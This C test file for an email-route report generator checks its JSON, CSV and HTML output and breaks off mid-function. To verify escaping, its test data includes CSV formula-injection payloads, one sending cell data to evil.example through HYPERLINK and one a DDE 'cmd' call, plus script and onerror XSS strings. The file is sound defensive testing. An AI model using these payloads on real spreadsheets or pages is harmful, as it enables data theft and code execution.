/* report.c: every report format, through hl_report_render() and hl_report_write_file()
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#define _GNU_SOURCE   /* memmem */

#include <errno.h>
#include <glib/gstdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "hoplock-pdf.h"
#include "report/hl-report-model-private.h"
#include "hl-test-route.h"

/* ---------------------------------------------------------------------------
 * Helpers
 * ------------------------------------------------------------------------- */

static char *
render (HlRoute        *route,
        HlReportFormat  format,
        HlTextFlags     flags)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GBytes) bytes = hl_report_render (&route, 1, format, flags, &error);
  gsize len;
  const char *data;

  g_assert_no_error (error);
  g_assert_nonnull (bytes);
  data = g_bytes_get_data (bytes, &len);
  g_assert_cmpuint (len, >, 0);
  return g_strndup (data, len);
}

static guint
count (const char *haystack,
       const char *needle)
{
  guint n = 0;

  for (const char *p = strstr (haystack, needle); p != NULL; p = strstr (p + 1, needle))
    n++;
  return n;
}

typedef struct
{
  const char *in;
  const char *out;
} EscapeCase;

/* ---------------------------------------------------------------------------
 * The table of formats
 * ------------------------------------------------------------------------- */

typedef struct
{
  HlReportFormat format;
  const char *name;
  const char *extension;
  const char *mime_type;
} FormatCase;

static const FormatCase formats[] = {
  { HL_REPORT_FORMAT_TEXT, "text", "txt", "text/plain" },
  { HL_REPORT_FORMAT_JSON, "json", "json", "application/json" },
  { HL_REPORT_FORMAT_JSON_LINES, "jsonl", "jsonl", "application/jsonl" },
  { HL_REPORT_FORMAT_CSV, "csv", "csv", "text/csv" },
  { HL_REPORT_FORMAT_HTML, "html", "html", "text/html" },
  { HL_REPORT_FORMAT_MARKDOWN, "md", "md", "text/markdown" },
  { HL_REPORT_FORMAT_PDF, "pdf", "pdf", "application/pdf" },
};

static void
test_formats (void)
{
  HlReportFormat f;

  g_assert_cmpuint (G_N_ELEMENTS (formats), ==, HL_REPORT_N_FORMATS);
  for (guint i = 0; i < G_N_ELEMENTS (formats); i++)
    {
      const FormatCase *c = &formats[i];

      g_assert_cmpstr (hl_report_format_to_string (c->format), ==, c->name);
      g_assert_cmpstr (hl_report_format_extension (c->format), ==, c->extension);
      g_assert_cmpstr (hl_report_format_mime_type (c->format), ==, c->mime_type);
      g_assert_cmpuint (strlen (hl_report_format_label (c->format)), >, 0);
      g_assert_true (hl_report_format_from_string (c->name, &f));
      g_assert_cmpint (f, ==, c->format);
      g_assert_true (hl_report_format_from_string (c->extension, &f));
      g_assert_cmpint (f, ==, c->format);
    }
  g_assert_true (hl_report_format_from_string ("CSV", &f));
  g_assert_cmpint (f, ==, HL_REPORT_FORMAT_CSV);
  g_assert_false (hl_report_format_from_string ("docx", NULL));
  g_assert_false (hl_report_format_from_string ("", NULL));
}

/* Every format renders every sample, the hostile message, and no message at all. */
static void
test_render_all (void)
{
  const char *samples[] = { "example.eml", "all-encrypted.eml", "one-clear-hop.eml", "local-hops.eml" };
  HlRoute *routes[G_N_ELEMENTS (samples) + 1];

  for (guint i = 0; i < G_N_ELEMENTS (samples); i++)
    routes[i] = hl_test_load_sample (samples[i]);
  routes[G_N_ELEMENTS (samples)] = hl_test_load_route ("tests", "report", "hostile.eml", NULL);

  for (HlReportFormat f = 0; f < HL_REPORT_N_FORMATS; f++)
    {
      g_autoptr(GError) error = NULL;
      g_autoptr(GBytes) all = hl_report_render (routes, G_N_ELEMENTS (routes), f, 0, &error);
      g_autoptr(GBytes) none = NULL;

      g_assert_no_error (error);
      g_assert_cmpuint (g_bytes_get_size (all), >, 100);
      none = hl_report_render (routes, 0, f, 0, &error);
      g_assert_no_error (error);
      g_assert_nonnull (none);
    }
  for (guint i = 0; i < G_N_ELEMENTS (routes); i++)
    hl_route_unref (routes[i]);
}

/* ---------------------------------------------------------------------------
 * JSON
 * ------------------------------------------------------------------------- */

typedef enum { T_STRING, T_INT, T_BOOL, T_ARRAY, T_OBJECT, T_STRING_OR_NULL, T_INT_OR_NULL } JsonType;

typedef struct
{
  const char *path;     /* members separated by "." */
  JsonType type;
} JsonKey;

/* The hoplock-report/1 contract of DESIGN.md. */
static const JsonKey contract[] = {
  { "schema", T_STRING },
  { "source", T_OBJECT }, { "source.name", T_STRING }, { "source.bytes", T_INT },
  { "message", T_OBJECT }, { "message.subject", T_STRING_OR_NULL }, { "message.from", T_STRING_OR_NULL },
  { "message.to", T_STRING_OR_NULL }, { "message.date", T_STRING_OR_NULL },
  { "message.message_id", T_STRING_OR_NULL },
  { "summary", T_OBJECT }, { "summary.hops", T_INT }, { "summary.encrypted", T_INT },
  { "summary.unencrypted", T_INT }, { "summary.local", T_INT }, { "summary.unknown", T_INT },
  { "summary.verdict", T_STRING }, { "summary.weakest_hop", T_INT_OR_NULL },
  { "summary.weakest_rating", T_STRING_OR_NULL }, { "summary.transit_s", T_INT_OR_NULL },
  { "summary.sentence", T_STRING },
  { "hops", T_ARRAY }, { "warnings", T_ARRAY },
};

static const JsonKey hop_contract[] = {
  { "index", T_INT }, { "raw", T_STRING },
  { "from", T_OBJECT }, { "from.helo", T_STRING_OR_NULL }, { "from.rdns", T_STRING_OR_NULL },
  { "from.ip", T_STRING_OR_NULL }, { "from.port", T_INT_OR_NULL },
  { "by", T_OBJECT }, { "by.host", T_STRING_OR_NULL }, { "by.software", T_STRING_OR_NULL },
  { "with", T_STRING_OR_NULL }, { "via", T_STRING_OR_NULL }, { "id", T_STRING_OR_NULL },
  { "for", T_STRING_OR_NULL }, { "envelope_from", T_STRING_OR_NULL },
  { "date", T_STRING_OR_NULL }, { "date_utc", T_STRING_OR_NULL }, { "delay_s", T_INT_OR_NULL },
  { "tls", T_OBJECT }, { "tls.state", T_STRING }, { "tls.evidence", T_STRING },
  { "tls.version", T_STRING_OR_NULL }, { "tls.version_raw", T_STRING_OR_NULL },
  { "tls.cipher", T_STRING_OR_NULL }, { "tls.cipher_iana", T_STRING_OR_NULL },
  { "tls.bits", T_INT_OR_NULL }, { "tls.alg_bits", T_INT_OR_NULL },
  { "tls.key_exchange", T_STRING_OR_NULL }, { "tls.verify", T_STRING_OR_NULL },
  { "tls.verify_raw", T_STRING_OR_NULL }, { "tls.rating", T_STRING },
  { "tls.rating_reasons", T_ARRAY },
  { "authenticated", T_BOOL }, { "kind", T_STRING }, { "mta", T_STRING_OR_NULL },
  { "tokens", T_ARRAY }, { "warnings", T_ARRAY },
};

static JsonNode *missing_member;

/* The member at @path ("a.b"); when there is none, the case fails and this gives
 * missing_member, a JSON null, so that check_types() goes on to the next key. */
static JsonNode *
member (JsonObject *object,
        const char *path)
{
  g_auto(GStrv) parts = g_strsplit (path, ".", -1);
  JsonNode *node = NULL;

  for (guint i = 0; parts[i] != NULL; i++)
    {
      if (object == NULL || !json_object_has_member (object, parts[i]))
        {
          hl_test_fail ("no member “%s”", path);
          if (missing_member == NULL)
            missing_member = json_node_new (JSON_NODE_NULL);
          return missing_member;
        }
      node = json_object_get_member (object, parts[i]);
      object = JSON_NODE_HOLDS_OBJECT (node) ? json_node_get_object (node) : NULL;
    }
  return node;
}

static void
check_types (JsonObject    *object,
             const JsonKey *keys,
             guint          n_keys)
{
  for (guint i = 0; i < n_keys; i++)
    {
      JsonNode *node = member (object, keys[i].path);
      gboolean null = JSON_NODE_HOLDS_NULL (node);
      gboolean value = JSON_NODE_HOLDS_VALUE (node);
      GType vt = value ? json_node_get_value_type (node) : G_TYPE_INVALID;
      gboolean ok = FALSE;

      if (node == missing_member)
        continue;
      switch (keys[i].type)
        {
        case T_STRING: ok = vt == G_TYPE_STRING; break;
        case T_INT: ok = vt == G_TYPE_INT64; break;
        case T_BOOL: ok = vt == G_TYPE_BOOLEAN; break;
        case T_ARRAY: ok = JSON_NODE_HOLDS_ARRAY (node); break;
        case T_OBJECT: ok = JSON_NODE_HOLDS_OBJECT (node); break;
        case T_STRING_OR_NULL: ok = null || vt == G_TYPE_STRING; break;
        case T_INT_OR_NULL: ok = null || vt == G_TYPE_INT64; break;
        default: g_assert_not_reached ();
        }
      if (!ok)
        hl_test_fail ("“%s” has the wrong type", keys[i].path);
    }
}

static void
test_json_contract (void)
{
  g_autoptr(HlRoute) route = hl_test_load_sample ("example.eml");
  g_autofree char *json = render (route, HL_REPORT_FORMAT_JSON, 0);
  g_autoptr(JsonParser) parser = json_parser_new ();
  g_autoptr(JsonParser) again = json_parser_new ();
  g_autoptr(JsonGenerator) gen = json_generator_new ();
  g_autoptr(GError) error = NULL;
  g_autofree char *regenerated = NULL;
  JsonObject *root, *hop;
  JsonArray *hops, *reasons;

  json_parser_load_from_data (parser, json, -1, &error);
  g_assert_no_error (error);
  g_assert_true (JSON_NODE_HOLDS_OBJECT (json_parser_get_root (parser)));
  root = json_node_get_object (json_parser_get_root (parser));
  check_types (root, contract, G_N_ELEMENTS (contract));
  hops = json_object_get_array_member (root, "hops");
  g_assert_cmpuint (json_array_get_length (hops), ==, 1);
  hop = json_array_get_object_element (hops, 0);
  check_types (hop, hop_contract, G_N_ELEMENTS (hop_contract));

  /* The example's values (DESIGN.md) */
  g_assert_cmpstr (json_object_get_string_member (root, "schema"), ==, "hoplock-report/1");
  g_assert_cmpstr (json_node_get_string (member (root, "source.name")), ==, "example.eml");
  g_assert_cmpstr (json_node_get_string (member (root, "message.subject")), ==,
                   "Quotation for the July shipment");
  g_assert_cmpstr (json_node_get_string (member (root, "message.message_id")), ==,
                   "20050717203902.GA1230@mail.uexport.com");
  g_assert_cmpint (json_node_get_int (member (root, "summary.hops")), ==, 1);
  g_assert_cmpint (json_node_get_int (member (root, "summary.encrypted")), ==, 1);
  g_assert_cmpint (json_node_get_int (member (root, "summary.unencrypted")), ==, 0);
  g_assert_cmpstr (json_node_get_string (member (root, "summary.verdict")), ==, "all-encrypted");
  g_assert_cmpint (json_node_get_int (member (root, "summary.weakest_hop")), ==, 1);
  g_assert_cmpstr (json_node_get_string (member (root, "summary.weakest_rating")), ==, "weak");
  g_assert_cmpstr (json_node_get_string (member (root, "summary.sentence")), ==,
                   "The one network hop was encrypted. Its protection was weak.");
  g_assert_cmpstr (json_node_get_string (member (hop, "from.helo")), ==, "mail.uexport.com");
  g_assert_cmpstr (json_node_get_string (member (hop, "from.ip")), ==, "192.168.1.1");
  g_assert_cmpstr (json_node_get_string (member (hop, "by.host")), ==, "mail.lint.com");
  g_assert_cmpstr (json_node_get_string (member (hop, "by.software")), ==, "8.12.9/8.12.9");
  g_assert_cmpstr (json_node_get_string (member (hop, "with")), ==, "ESMTP");
  g_assert_cmpstr (json_node_get_string (member (hop, "id")), ==, "h0UGn9P7001230");
  g_assert_cmpstr (json_node_get_string (member (hop, "date")), ==, "2005-07-17T15:39:10-05:00");
  g_assert_cmpstr (json_node_get_string (member (hop, "date_utc")), ==, "2005-07-17T20:39:10Z");
  g_assert_cmpstr (json_node_get_string (member (hop, "tls.state")), ==, "encrypted");
  g_assert_cmpstr (json_node_get_string (member (hop, "tls.evidence")), ==, "tls-clause");
  g_assert_true (JSON_NODE_HOLDS_NULL (member (hop, "tls.version")));
  g_assert_cmpstr (json_node_get_string (member (hop, "tls.version_raw")), ==, "TLSv1/SSLv3");
  g_assert_cmpstr (json_node_get_string (member (hop, "tls.cipher")), ==, "EDH-RSA-DES-CBC3-SHA");
  g_assert_cmpstr (json_node_get_string (member (hop, "tls.cipher_iana")), ==,
                   "TLS_DHE_RSA_WITH_3DES_EDE_CBC_SHA");
  g_assert_cmpint (json_node_get_int (member (hop, "tls.bits")), ==, 168);
  g_assert_cmpstr (json_node_get_string (member (hop, "tls.verify")), ==, "verified");
  g_assert_cmpstr (json_node_get_string (member (hop, "tls.verify_raw")), ==, "OK");
  g_assert_cmpstr (json_node_get_string (member (hop, "tls.rating")), ==, "weak");
  reasons = json_node_get_array (member (hop, "tls.rating_reasons"));
  g_assert_cmpuint (json_array_get_length (reasons), ==, 3);
  g_assert_cmpstr (json_object_get_string_member (json_array_get_object_element (reasons, 0), "id"),
                   ==, "version.ambiguous");
  g_assert_cmpstr (json_node_get_string (member (hop, "mta")), ==, "sendmail");
  g_assert_false (json_node_get_boolean (member (hop, "authenticated")));

  /* Round trip: what json-glib reads back and writes again is the same document. */
  json_generator_set_root (gen, json_parser_get_root (parser));
  json_generator_set_pretty (gen, TRUE);
  regenerated = json_generator_to_data (gen, NULL);
  json_parser_load_from_data (again, regenerated, -1, &error);
  g_assert_no_error (error);
  g_assert_true (json_node_equal (json_parser_get_root (parser), json_parser_get_root (again)));
  g_assert_cmpstr (g_strstrip (regenerated), ==, g_strstrip (json));
}

/* Several messages: JSON is an array, JSON Lines one object a line. */
static void
test_json_many (void)
{
  HlRoute *routes[] = { hl_test_load_sample ("example.eml"),
                        hl_test_load_sample ("one-clear-hop.eml") };
  g_autoptr(GError) error = NULL;
  g_autoptr(GBytes) array = hl_report_render (routes, 2, HL_REPORT_FORMAT_JSON, 0, &error);
  g_autoptr(GBytes) lines = hl_report_render (routes, 2, HL_REPORT_FORMAT_JSON_LINES, 0, &error);
  g_autoptr(JsonParser) parser = json_parser_new ();
  g_autofree char *text = g_strndup (g_bytes_get_data (lines, NULL), g_bytes_get_size (lines));
  g_auto(GStrv) split = g_strsplit (text, "\n", -1);
  JsonArray *a;

  g_assert_no_error (error);
  json_parser_load_from_data (parser, g_bytes_get_data (array, NULL), g_bytes_get_size (array), &error);
  g_assert_no_error (error);
  a = json_node_get_array (json_parser_get_root (parser));
  g_assert_cmpuint (json_array_get_length (a), ==, 2);
  g_assert_cmpstr (json_object_get_string_member (json_object_get_object_member (
                     json_array_get_object_element (a, 1), "source"), "name"), ==, "one-clear-hop.eml");

  /* two lines and the empty string after the last newline */
  g_assert_cmpuint (g_strv_length (split), ==, 3);
  g_assert_cmpstr (split[2], ==, "");
  for (guint i = 0; i < 2; i++)
    {
      json_parser_load_from_data (parser, split[i], -1, &error);
      g_assert_no_error (error);
      g_assert_true (JSON_NODE_HOLDS_OBJECT (json_parser_get_root (parser)));
    }
  hl_route_unref (routes[0]);
  hl_route_unref (routes[1]);
}

/* ---------------------------------------------------------------------------
 * CSV
 * ------------------------------------------------------------------------- */

/* A strict RFC 4180 reader: rows of cells; fails the test on anything else. */
static GPtrArray *
csv_parse (const char *text)
{
  GPtrArray *rows = g_ptr_array_new_with_free_func ((GDestroyNotify) g_strfreev);
  GPtrArray *row = g_ptr_array_new ();
  GString *cell = g_string_new (NULL);
  const char *p = text;

  while (*p)
    {
      if (*p == '"')
        {
          for (p++;; p++)
            {
              g_assert_true (*p != '\0');
              if (*p == '"' && p[1] == '"')
                g_string_append_c (cell, *p++);
              else if (*p == '"')
                break;
              else
                g_string_append_c (cell, *p);
            }
          p++;
        }
      else
        while (*p && *p != ',' && *p != '\r')
          {
            g_assert_true (*p != '"' && *p != '\n');
            g_string_append_c (cell, *p++);
          }
      g_ptr_array_add (row, g_strdup (cell->str));
      g_string_truncate (cell, 0);
      if (*p == ',')
        p++;
      else
        {
          g_assert_true (p[0] == '\r' && p[1] == '\n');
          p += 2;
          g_ptr_array_add (row, NULL);
          g_ptr_array_add (rows, g_ptr_array_free (row, FALSE));
          row = g_ptr_array_new ();
        }
    }
  g_assert_cmpuint (row->len, ==, 0);
  g_ptr_array_free (row, TRUE);
  g_string_free (cell, TRUE);
  return rows;
}

static int
column (char      **header,
        const char *name)
{
  for (int i = 0; header[i] != NULL; i++)
    if (strcmp (header[i], name) == 0)
      return i;
  /* The case fails; column 0 keeps the caller's indexing inside the row. */
  hl_test_fail ("no column “%s”", name);
  return 0;
}

static const char *const csv_header =
  "source,subject,from,to,message_date,message_id,verdict,hop,hops,from_helo,from_rdns,from_ip,"
  "by_host,by_software,with,id,for,hop_date,hop_date_utc,delay_s,tls_state,evidence,tls_version,"
  "tls_version_raw,cipher,cipher_iana,bits,verify,verify_raw,rating,rating_reasons,kind,mta,"
  "authenticated,warnings,raw\r\n";

static void
test_csv_example (void)
{
  g_autoptr(HlRoute) route = hl_test_load_sample ("example.eml");
  g_autofree char *csv = render (route, HL_REPORT_FORMAT_CSV, 0);
  g_autoptr(GPtrArray) rows = csv_parse (csv);
  char **h, **r;

  g_assert_true (g_str_has_prefix (csv, csv_header));   /* no BOM, CRLF */
  g_assert_true (g_utf8_validate (csv, -1, NULL));
  g_assert_cmpuint (rows->len, ==, 2);
  h = rows->pdata[0];
  r = rows->pdata[1];
  g_assert_cmpuint (g_strv_length (h), ==, 36);
  g_assert_cmpuint (g_strv_length (r), ==, 36);
  g_assert_cmpstr (r[column (h, "source")], ==, "example.eml");
  g_assert_cmpstr (r[column (h, "subject")], ==, "Quotation for the July shipment");
  g_assert_cmpstr (r[column (h, "from")], ==, "Export Department <export@uexport.com>");
  g_assert_cmpstr (r[column (h, "message_id")], ==, "20050717203902.GA1230@mail.uexport.com");
  g_assert_cmpstr (r[column (h, "verdict")], ==, "all-encrypted");
  g_assert_cmpstr (r[column (h, "hop")], ==, "1");
  g_assert_cmpstr (r[column (h, "from_helo")], ==, "mail.uexport.com");
  g_assert_cmpstr (r[column (h, "from_ip")], ==, "192.168.1.1");
  g_assert_cmpstr (r[column (h, "by_host")], ==, "mail.lint.com");
  g_assert_cmpstr (r[column (h, "with")], ==, "ESMTP");
  g_assert_cmpstr (r[column (h, "hop_date")], ==, "2005-07-17T15:39:10-05:00");
  g_assert_cmpstr (r[column (h, "delay_s")], ==, "");
  g_assert_cmpstr (r[column (h, "tls_state")], ==, "encrypted");
  g_assert_cmpstr (r[column (h, "tls_version")], ==, "");
  g_assert_cmpstr (r[column (h, "tls_version_raw")], ==, "TLSv1/SSLv3");
  g_assert_cmpstr (r[column (h, "cipher")], ==, "EDH-RSA-DES-CBC3-SHA");
  g_assert_cmpstr (r[column (h, "bits")], ==, "168");
  g_assert_cmpstr (r[column (h, "verify")], ==, "verified");
  g_assert_cmpstr (r[column (h, "rating")], ==, "weak");
  g_assert_cmpstr (r[column (h, "rating_reasons")], ==, "version.ambiguous; cipher.3des; cipher.cbc");
  g_assert_cmpstr (r[column (h, "authenticated")], ==, "false");
  g_assert_true (g_str_has_prefix (r[column (h, "raw")], "from mail.uexport.com (mail.uexport.com[192.168.1.1])"));
}

/* Rows of every message, one per hop; a message without hops keeps one row. */
static void
test_csv_many (void)
{
  g_autoptr(GError) error = NULL;
  HlRoute *routes[] = { hl_test_load_sample ("example.eml"),
                        hl_test_load_sample ("all-encrypted.eml"),
                        hl_test_load_sample ("one-clear-hop.eml") };
  g_autoptr(GBytes) bytes = hl_report_render (routes, 3, HL_REPORT_FORMAT_CSV, 0, &error);
  g_autofree char *csv = g_strndup (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes));
  g_autoptr(GPtrArray) rows = csv_parse (csv);
  g_autoptr(HlRoute) empty = NULL;
  g_autofree char *empty_csv = NULL;
  g_autoptr(GPtrArray) empty_rows = NULL;
  char **h = rows->pdata[0];

  g_assert_cmpuint (rows->len, ==, 1 + 1 + 3 + 3);
  for (guint i = 1; i < rows->len; i++)
    g_assert_cmpuint (g_strv_length (rows->pdata[i]), ==, 36);
  g_assert_cmpstr (((char **) rows->pdata[2])[column (h, "source")], ==, "all-encrypted.eml");
  g_assert_cmpstr (((char **) rows->pdata[4])[column (h, "hop")], ==, "3");
  g_assert_cmpstr (((char **) rows->pdata[6])[column (h, "verdict")], ==, "partly-encrypted");
  g_assert_cmpstr (((char **) rows->pdata[6])[column (h, "tls_state")], ==, "unencrypted");
  g_assert_cmpstr (((char **) rows->pdata[6])[column (h, "delay_s")], ==, "1");
  g_assert_cmpuint (count (csv, "\r\n"), ==, 8);

  empty = hl_route_new_from_data ("Subject: none\r\nFrom: a@b.example\r\n\r\n", 35, "none.eml", &error);
  g_assert_no_error (error);
  empty_csv = render (empty, HL_REPORT_FORMAT_CSV, 0);
  empty_rows = csv_parse (empty_csv);
  g_assert_cmpuint (empty_rows->len, ==, 2);
  g_assert_cmpstr (((char **) empty_rows->pdata[1])[column (h, "subject")], ==, "none");
  g_assert_cmpstr (((char **) empty_rows->pdata[1])[column (h, "verdict")], ==, "no-hops");
  g_assert_cmpstr (((char **) empty_rows->pdata[1])[column (h, "hop")], ==, "");

  for (guint i = 0; i < G_N_ELEMENTS (routes); i++)
    hl_route_unref (routes[i]);
}

static const EscapeCase csv_cases[] = {
  { NULL, "" },
  { "", "" },
  { "plain", "plain" },
  { "ok=1", "ok=1" },
  { "a,b", "\"a,b\"" },
  { "say \"hi\"", "\"say \"\"hi\"\"\"" },
  { " padded ", "\" padded \"" },
  { "=1+1", "\"'=1+1\"" },
  { "+SUM(1)", "\"'+SUM(1)\"" },
  { "-2+3", "\"'-2+3\"" },
  { "@SUM(A1)", "\"'@SUM(A1)\"" },
  { "\t=1", "\"' =1\"" },                     /* a tab becomes a space, the cell stays marked */
  { "\r=1", "\"'\xef\xbf\xbd=1\"" },          /* a CR becomes U+FFFD */
  { "=HYPERLINK(\"http://x\",\"y\")", "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"" },
  { "line\nbreak", "line break" },
  { "x\x1b[31m", "x\xef\xbf\xbd[31m" },
};

static void
test_csv_escape (gconstpointer data)
{
  const EscapeCase *c = data;
  g_autoptr(GString) out = g_string_new (NULL);

  hl_report_append_csv (out, c->in);
  g_assert_cmpstr (out->str, ==, c->out);
}

/* No cell of a hostile message can start a formula. */
static void
test_csv_hostile (void)
{
  g_autoptr(HlRoute) route = hl_test_load_route ("tests", "report", "hostile.eml", NULL);
  g_autofree char *csv = render (route, HL_REPORT_FORMAT_CSV, 0);
  g_autoptr(GPtrArray) rows = csv_parse (csv);
  char **h = rows->pdata[0];
  char **oldest, **newest;
  guint marked = 0;

  g_assert_cmpuint (rows->len, ==, 4);
  oldest = rows->pdata[1];
  newest = rows->pdata[3];
  g_assert_true (g_str_has_prefix (oldest[column (h, "subject")], "'=HYPERLINK(\"http://evil.example/?\"&A1"));
  g_assert_cmpstr (oldest[column (h, "to")], ==, "'+victim@example.com");
  g_assert_cmpstr (oldest[column (h, "from_helo")], ==, "<script>");
  g_assert_cmpstr (((char **) rows->pdata[2])[column (h, "from_helo")], ==, "'@SUM");
  g_assert_cmpstr (newest[column (h, "from_helo")], ==, "'=cmd|'/C_calc'!A0");
  g_assert_cmpstr (newest[column (h, "by_host")], ==, "'+SUM");
  g_assert_cmpstr (newest[column (h, "id")], ==, "'-2+3");

  for (guint i = 1; i < rows->len; i++)
    for (char **cell = rows->pdata[i]; *cell != NULL; cell++)
      {
        g_assert_null (strchr ("=+-@\t\r", (*cell)[0]) && (*cell)[0] ? *cell : NULL);
        g_assert_null (strchr (*cell, '\x1b'));
        if ((*cell)[0] == '\'')
          marked++;
      }
  /* subject and to on each of 3 rows, and 4 hop cells */
  g_assert_cmpuint (marked, ==, 3 * 2 + 4);
}

/* ---------------------------------------------------------------------------
 * HTML
 * ------------------------------------------------------------------------- */

static const EscapeCase html_cases[] = {
  { "plain", "plain" },
  { "<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;" },
  { "a & b", "a &amp; b" },
  { "\"'", "&quot;&#39;" },
  { "</style>", "&lt;/style&gt;" },
  { "&lt;", "&amp;lt;" },
  { "héllo → ok", "héllo → ok" },
};

static void
test_html_escape (gconstpointer data)
{
  const EscapeCase *c = data;
  g_autoptr(GString) out = g_string_new (NULL);

  hl_report_append_html (out, c->in);
  g_assert_cmpstr (out->str, ==, c->out);
}

/* The only elements a report has; anything else came from a header. */
static const char *const html_elements[] = {
  "!DOCTYPE", "html", "head", "meta", "title", "style", "body", "main", "header", "footer",
  "article", "section", "div", "h1", "h2", "h3", "h4", "p", "dl", "dt", "dd", "ul", "li",
  "table", "caption", "thead", "tbody", "tr", "th", "td", "span", "pre", "svg", "path",
};

static void
check_html_structure (const char *html)
{
  for (const char *p = strchr (html, '<'); p != NULL; p = strchr (p + 1, '<'))
    {
      const char *name = p[1] == '/' ? p + 2 : p + 1;
      const char *end = strchr (p, '>');
      gsize len = strcspn (name, " >/");
      g_autofree char *tag = g_strndup (name, len);
      g_autofree char *inside = g_strndup (p, end - p);
      gboolean known = FALSE;

      g_assert_nonnull (end);
      for (guint i = 0; i < G_N_ELEMENTS (html_elements); i++)
        known |= strcmp (tag, html_elements[i]) == 0;
      if (!known)
        hl_test_fail ("unexpected element <%s>", tag);
      /* No handlers, no fetches, no links in any tag. */
      g_assert_null (strstr (inside, " on"));
      g_assert_null (strstr (inside, "src="));
      g_assert_null (strstr (inside, "href="));
      g_assert_null (strstr (inside, "url("));
      g_assert_null (strstr (inside, "://"));
    }
}

static void
test_html_hostile (void)
{
  g_autoptr(HlRoute) route = hl_test_load_route ("tests", "report", "hostile.eml", NULL);
  g_autofree char *html = render (route, HL_REPORT_FORMAT_HTML, 0);
  g_autofree char *lower = g_ascii_strdown (html, -1);

  check_html_structure (html);
  g_assert_cmpuint (count (lower, "<script"), ==, 0);
  g_assert_cmpuint (count (lower, "<img"), ==, 0);
  g_assert_cmpuint (count (lower, "<b>"), ==, 0);
  g_assert_cmpuint (count (lower, "<style>"), ==, 1);
  g_assert_cmpuint (count (lower, "</style>"), ==, 1);
  g_assert_cmpuint (count (lower, "</title>"), ==, 1);
  g_assert_null (strchr (html, '\x1b'));
  g_assert_null (strstr (html, "\u202e"));
  g_assert_nonnull (strstr (html, "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src "
                                  "'none'; style-src 'unsafe-inline'; img-src data:\">"));
  g_assert_nonnull (strstr (html, "@media (prefers-color-scheme: dark)"));
  g_assert_nonnull (strstr (html, "@media print"));
  /* the header's text, literally */
  g_assert_nonnull (strstr (html, "&lt;script&gt;document.title=&#39;pwned&#39;&lt;/script&gt;"));
  g_assert_nonnull (strstr (html, "&lt;img src=x onerror=&quot;document.body.setAttribute("));
  g_assert_nonnull (strstr (html, "(&lt;/style&gt;&lt;b&gt;bold&lt;/b&gt; [198.51.100.2])"));
  g_assert_nonnull (strstr (html, "<td>&lt;script&gt;</td>"));
  /* a lock for the verdict, one for each row and each hop's heading */
  g_assert_cmpuint (count (html, "<svg "), ==, 1 + 3 + 3);
  g_assert_cmpuint (count (html, "<tr>"), ==, 1 + 3);
}

static void
test_html_example (void)
{
  g_autoptr(HlRoute) route = hl_test_load_sample ("example.eml");
  g_autofree char *html = render (route, HL_REPORT_FORMAT_HTML, 0);

  check_html_structure (html);
  g_assert_true (g_str_has_prefix (html, "<!DOCTYPE html>\n<html lang=\"en\">"));
  g_assert_nonnull (strstr (html, "<title>Hoplock report: Quotation for the July shipment</title>"));
  g_assert_nonnull (strstr (html, "<p class=\"verdict-label\">All encrypted</p>"));
  g_assert_nonnull (strstr (html, "<p class=\"sentence\">The one network hop was encrypted. Its protection was weak.</p>"));
  g_assert_nonnull (strstr (html, "<span class=\"state st-verified\">"));
  g_assert_nonnull (strstr (html, "Encrypted, certificate verified</span>"));
  g_assert_nonnull (strstr (html, "<td>mail.uexport.com [192.168.1.1]</td><td>mail.lint.com</td><td>ESMTP</td>"));
  g_assert_nonnull (strstr (html, "<td>2005-07-17 15:39:10 -05:00</td>"));
  g_assert_nonnull (strstr (html, "<pre class=\"raw\">from mail.uexport.com (mail.uexport.com[192.168.1.1])"));

  /* The explanations, each under its title */
  {
    HlReceived *hop = hl_route_get_hop (route, 0);
    g_autofree char *for_you = hl_explain_for_you (hop);
    g_autofree char *summary = hl_explain_hop_summary (hop);
    g_auto(GStrv) first = hl_report_paragraphs (for_you);
    g_auto(GStrv) summary_first = hl_report_paragraphs (summary);
    g_autoptr(GString) expected = g_string_new ("<p class=\"text\">");

    hl_report_append_html (expected, first[0]);
    g_assert_nonnull (strstr (html, expected->str));
    g_string_assign (expected, "<h4>What happened</h4>\n<p class=\"text\">");
    hl_report_append_html (expected, summary_first[0]);
    g_assert_nonnull (strstr (html, expected->str));
  }
  g_assert_nonnull (strstr (html, "<h4>The cipher suite taken apart</h4>\n<ul class=\"parts\">\n<li>"));
  g_assert_nonnull (strstr (html, "<h4>The rating explained</h4>"));
  g_assert_nonnull (strstr (html, "<h4>What this means for you</h4>"));
  g_assert_nonnull (strstr (html, "<h4>What an administrator can do</h4>"));
  g_assert_nonnull (strstr (html, "<h3>What the header cannot prove</h3>"));
  g_assert_nonnull (strstr (html, "Sweet32"));
}

static void
count_segment (HlPathOp      op,
               const double *points,
               gpointer      user_data)
{
  guint *n = user_data;

  if (op != HL_PATH_CLOSE)
    {
      g_assert_nonnull (points);
      g_assert_cmpfloat (points[0], >=, 0);
      g_assert_cmpfloat (points[0], <=, 24);
    }
  (*n)++;
}

/* The table of hops: a heading for each column, widths that fill the page. */
static void
test_columns (void)
{
  double sum = 0;

  for (HlReportColumn c = 0; c < HL_REPORT_N_COLUMNS; c++)
    {
      g_assert_cmpuint (strlen (hl_report_column_title (c)), >, 0);
      g_assert_cmpfloat (hl_report_column_width (c), >, 0.03);
      sum += hl_report_column_width (c);
    }
  g_assert_cmpfloat_with_epsilon (sum, 1.0, 1e-9);
}

/* The five locks differ by shape, not only colour, and each has its own label. */
static void
test_locks (void)
{
  for (HlProtection a = 0; a < HL_PROTECTION_N; a++)
    {
      const HlLockShape *sa = hl_protection_get_lock_shape (a);
      g_autoptr(GString) da = g_string_new (NULL);

      g_assert_cmpuint (strlen (hl_protection_get_label (a)), >, 0);
      for (guint i = 0; i < HL_LOCK_MAX_LAYERS && sa->layers[i].d; i++)
        {
          guint n = 0;

          g_string_append (da, sa->layers[i].d);
          /* the same path data draws the PDF's locks: every command is one Cairo knows */
          g_assert_true (hl_lock_path_walk (sa->layers[i].d, count_segment, &n));
          g_assert_cmpuint (n, >=, 2);
        }
      for (HlProtection b = a + 1; b < HL_PROTECTION_N; b++)
        {
          const HlLockShape *sb = hl_protection_get_lock_shape (b);
